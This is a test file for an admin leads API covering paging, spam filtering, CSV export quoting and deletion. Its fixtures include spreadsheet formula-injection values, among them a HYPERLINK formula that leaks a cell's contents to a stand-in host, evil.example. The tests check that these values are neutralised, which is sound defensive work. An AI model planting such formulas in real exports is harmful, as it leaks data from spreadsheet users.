/** The Leads tab's API in-process: paging newest first, the spam filter, CSV quoting and formula neutralising, delete. */
import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { eq } from "drizzle-orm";
import { leadNotificationOutbox, leads } from "../../db/schema/index.ts";
import type { TestApp } from "../support/test-app.ts";
import { adminRequest, createAdminTestApp, json, login } from "./admin-support.ts";
import { LEAD_ANSWERS } from "./lead-support.ts";

let t: TestApp;
let cookie: string;

const base = { ...LEAD_ANSWERS, phone: null, businessName: null };

/** 30 ordinary leads a minute apart (lead-0 oldest), 2 spam, and the hostile ones. */
beforeAll(async () => {
  t = await createAdminTestApp();
  cookie = await login(t);
  const now = Date.now();
  const rows = Array.from({ length: 30 }, (_, i) => ({ ...base, email: `lead-${i}@example.com`, createdAt: new Date(now - (100 - i) * 60_000) }));
  rows.push({ ...base, email: "spam-1@example.com", createdAt: new Date(now - 50 * 60_000), isSpam: true } as never);
  rows.push({ ...base, email: "spam-2@example.com", createdAt: new Date(now - 10 * 60_000), isSpam: true } as never);
  rows.push({
    ...base,
    email: "hostile@example.com",
    firstName: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    lastName: "+1+2",
    businessName: 'Quote "Co", Ltd\r\nSecond line',
    phone: "-2+3",
    createdAt: new Date(now - 5 * 60_000),
  } as never);
  rows.push({ ...base, email: "at@example.com", firstName: "@SUM(1+1)", lastName: "\tTab", businessName: "\rCR", createdAt: new Date(now - 4 * 60_000), isRepeat: true } as never);
  await t.deps.db.insert(leads).values(rows);
}, 60_000);
afterAll(() => t.close());

const get = (path: string) => adminRequest(t, path, { cookie });

/** The body after its UTF-8 byte order mark (which Response.text() would drop silently). */
async function csvText(res: Response): Promise<string> {
  const bytes = new Uint8Array(await res.arrayBuffer());
  expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  return new TextDecoder("utf-8", { ignoreBOM: true }).decode(bytes).slice(1);
}

describe("GET /api/admin/leads", () => {
  test("first page: newest first, 25 by default, spam hidden; the fields it always had, then the pipeline's and the source's, and the counts", async () => {
    const res = await get("/api/admin/leads");
    expect(res.status).toBe(200);
    const body = await json(res);
    expect(body.total).toBe(32);
    expect(body.page).toBe(1);
    expect(body.limit).toBe(25);
    expect(body.leads).toHaveLength(25);
    expect(body.leads[0].email).toBe("at@example.com");
    expect(body.leads[1].email).toBe("hostile@example.com");
    expect(body.leads[2].email).toBe("lead-29@example.com");
    expect(body.leads.some((l: { isSpam: boolean }) => l.isSpam)).toBe(false);
    // The answer only grows: every field it had is still there, as it was.
    for (const field of [
      "id",
      "createdAt",
      "firstName",
      "lastName",
      "email",
      "phone",
      "businessName",
      "businessType",
      "painPoint",
      "goals",
      "contactPreference",
      "isSpam",
      "isRepeat",
    ]) {
      expect(body.leads[0]).toHaveProperty(field);
    }
    expect(body.leads[0]).toMatchObject({ status: "new", firstContactedAt: null, planInterest: null, utmSource: null });
    expect(body.counts).toEqual({ all: 32, new: 32, contacted: 0, qualified: 0, won: 0, lost: 0 });
    expect(body.leads[0].isRepeat).toBe(true);
    const times = body.leads.map((l: { createdAt: string }) => new Date(l.createdAt).getTime());
    expect([...times].sort((a, b) => b - a)).toEqual(times);
  });

  test("paging: page 2 holds the rest; pages do not overlap", async () => {
    const one = await json(await get("/api/admin/leads?page=1&limit=10"));
    const two = await json(await get("/api/admin/leads?page=2&limit=10"));
    const four = await json(await get("/api/admin/leads?page=4&limit=10"));
    expect(one.leads).toHaveLength(10);
    expect(two.leads).toHaveLength(10);
    expect(four.leads).toHaveLength(2);
    const ids = new Set([...one.leads, ...two.leads].map((l: { id: string }) => l.id));
    expect(ids.size).toBe(20);
    expect((await json(await get("/api/admin/leads?page=9"))).leads).toEqual([]);
  });

  test("includeSpam=true shows spam, flagged", async () => {
    const body = await json(await get("/api/admin/leads?includeSpam=true&limit=100"));
    expect(body.total).toBe(34);
    expect(
      body.leads
        .filter((l: { isSpam: boolean }) => l.isSpam)
        .map((l: { email: string }) => l.email)
        .sort(),
    ).toEqual(["spam-1@example.com", "spam-2@example.com"]);
  });

  test("400 for a bad query", async () => {
    for (const q of ["page=0", "page=abc", "limit=0", "limit=101", "includeSpam=yes"]) {
      const res = await get(`/api/admin/leads?${q}`);
      expect(`${q} ${res.status}`).toBe(`${q} 400`);
      expect((await json(res)).issues).toHaveLength(1);
    }
  });
});

/** A small RFC 4180 parser, to check the file as a spreadsheet would read it. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let i = 0;
  while (i < text.length) {
    expect(text[i]).toBe('"');
    let cell = "";
    i++;
    for (;;) {
      if (text[i] === '"' && text[i + 1] === '"') {
        cell += '"';
        i += 2;
      } else if (text[i] === '"') {
        i++;
        break;
      } else {
        cell += text[i];
        i++;
      }
    }
    row.push(cell);
    if (text[i] === ",") i++;
    else if (text.slice(i, i + 2) === "\r\n") {
      rows.push(row);
      row = [];
      i += 2;
    } else throw new Error(`unexpected ${JSON.stringify(text.slice(i, i + 10))}`);
  }
  return rows;
}

describe("GET /api/admin/leads.csv", () => {
  test("an attachment with a header row and every non-spam lead, newest first", async () => {
    const res = await get("/api/admin/leads.csv");
    expect(res.status).toBe(200);
    expect(res.headers.get("Content-Type")).toStartWith("text/csv; charset=utf-8");
    expect(res.headers.get("Content-Disposition")).toMatch(/^attachment; filename="leads-\d{4}-\d{2}-\d{2}\.csv"$/);
    const rows = parseCsv(await csvText(res));
    // The columns it always had first, in their order (a spreadsheet may read them by position), then the new ones.
    expect(rows[0]!.slice(0, 12).join(",")).toBe("Date,First Name,Last Name,Email,Phone,Business Name,Business Type,Pain Point,Goals,Contact Preference,Spam,Repeat");
    expect(rows[0]!.slice(12).join(",")).toBe(
      "Status,Status Changed,First Contacted,Plan of Interest,Recommended Plan,UTM Source,UTM Medium,UTM Campaign,Referrer Host,Landing Page,Last Note",
    );
    // Labels, not codes.
    expect(rows[1]!.slice(6, 10)).toEqual(["Restaurant", "Missed calls", "More local customers", "Send info by email"]);
    expect(rows[1]![12]).toBe("New");
    expect(rows).toHaveLength(33);
    expect(rows[1]![3]).toBe("at@example.com");
    expect(rows.at(-1)![3]).toBe("lead-0@example.com");
    expect(rows.some((r) => r[3]!.startsWith("spam-"))).toBe(false);
  });

  test("quoting survives quotes, commas and line breaks; formula-looking cells get a leading apostrophe", async () => {
    const rows = parseCsv(await csvText(await get("/api/admin/leads.csv")));
    const hostile = rows.find((r) => r[3] === "hostile@example.com")!;
    expect(hostile[1]).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"Click")`);
    expect(hostile[2]).toBe("'+1+2");
    expect(hostile[4]).toBe("'-2+3");
    expect(hostile[5]).toBe('Quote "Co", Ltd\r\nSecond line');
    const at = rows.find((r) => r[3] === "at@example.com")!;
    expect(at[1]).toBe("'@SUM(1+1)");
    expect(at[2]).toBe("'\tTab");
    expect(at[5]).toBe("'\rCR");
    expect(at[11]).toBe("yes");
    for (const row of rows.slice(1)) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  test("includeSpam=true exports spam too", async () => {
    const rows = parseCsv(await csvText(await get("/api/admin/leads.csv?includeSpam=true")));
    expect(rows).toHaveLength(35);
  });

  test("batches: an export larger than one batch has every lead once", async () => {
    const { leadBatches } = await import("../../db/queries/admin-leads.ts");
    const seen: string[] = [];
    const { DEFAULT_LEAD_LIST_VIEW } = await import("../../src/shared/lead-list-view.ts");
    for await (const batch of leadBatches(t.deps.db, { ...DEFAULT_LEAD_LIST_VIEW, spam: true }, 7)) seen.push(...batch.map((l) => l.id));
    expect(seen).toHaveLength(34);
    expect(new Set(seen).size).toBe(34);
  });
});

describe("DELETE /api/admin/leads/:id", () => {
  test("200 {success:true}, the lead and its outbox row are gone; 404 after, and for a non-uuid", async () => {
    const [lead] = await t.deps.db
      .insert(leads)
      .values({ ...base, email: "delete-me@example.com" })
      .returning();
    await t.deps.db.insert(leadNotificationOutbox).values({ leadId: lead!.id, payload: {} });
    const res = await adminRequest(t, `/api/admin/leads/${lead!.id}`, { method: "DELETE", cookie });
    expect(res.status).toBe(200);
    expect(await json(res)).toEqual({ success: true });
    expect(await t.deps.db.select().from(leads).where(eq(leads.id, lead!.id))).toHaveLength(0);
    expect(await t.deps.db.select().from(leadNotificationOutbox).where(eq(leadNotificationOutbox.leadId, lead!.id))).toHaveLength(0);
    expect((await adminRequest(t, `/api/admin/leads/${lead!.id}`, { method: "DELETE", cookie })).status).toBe(404);
    expect((await adminRequest(t, "/api/admin/leads/not-a-uuid", { method: "DELETE", cookie })).status).toBe(404);
  });
});
